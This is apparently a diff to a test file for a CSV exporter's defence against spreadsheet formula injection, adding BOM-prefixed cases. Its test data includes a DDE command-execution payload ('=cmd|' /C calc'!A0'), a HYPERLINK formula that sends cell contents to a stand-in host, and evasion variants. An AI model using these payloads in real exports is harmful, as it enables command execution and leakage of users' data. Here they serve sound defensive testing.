@@ -9,8 +9,8 @@ from harness import *
 from typevalues import LITERALS, TEXTS
 
 FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
-            '=HYPERLINK("http://x/?"&A1,"click")', "-1e5", "- 5", "--5", "-5;=1"]
-NO_FORMULAS = ["-5", "+3.25", "-3,25", "-0", "+49301234567", "5", "00123", " =1", "'=1", "a=1", "ä", ""]
+            '=HYPERLINK("http://x/?"&A1,"click")', "-1e5", "- 5", "--5", "-5;=1", "\ufeff=1+1", "\ufeff\ufeff@x"]
+NO_FORMULAS = ["-5", "+3.25", "-3,25", "-0", "+49301234567", "5", "00123", " =1", "'=1", "a=1", "ä", "", "\ufeff", "\ufeff-5"]
 SAFE = {k: LITERALS[k] for k in ("bool", "int2", "int4", "int8", "oid", "money", "date", "time", "timestamp", "timestamptz", "interval",
                                  "timetz", "uuid")}
 NUMBERS = {k: LITERALS[k] for k in ("numeric", "float4", "float8")}
@@ -35,7 +35,7 @@ def records(data, delimiter=","):
 
 def read(data, delimiter=","):
     true(data.startswith(b"\xef\xbb\xbf"), "no BOM: %r" % data[:20])
-    lacks(data[3:], b"\xef\xbb\xbf'", "one BOM")
+    true(not data.startswith(b"\xef\xbb\xbf" * 2), "two BOMs")
     return records(data[3:], delimiter)
 
 
@@ -52,7 +52,8 @@ def body(server, options="", name="e"):
 
 
 def neutral(text):
-    if text[:1] in tuple("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"[+-]\d+([.,]\d*)?", text):
+    seen = text.lstrip("\ufeff")
+    if seen[:1] in tuple("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"[+-]\d+([.,]\d*)?", seen):
         return "'" + text
     return text
 
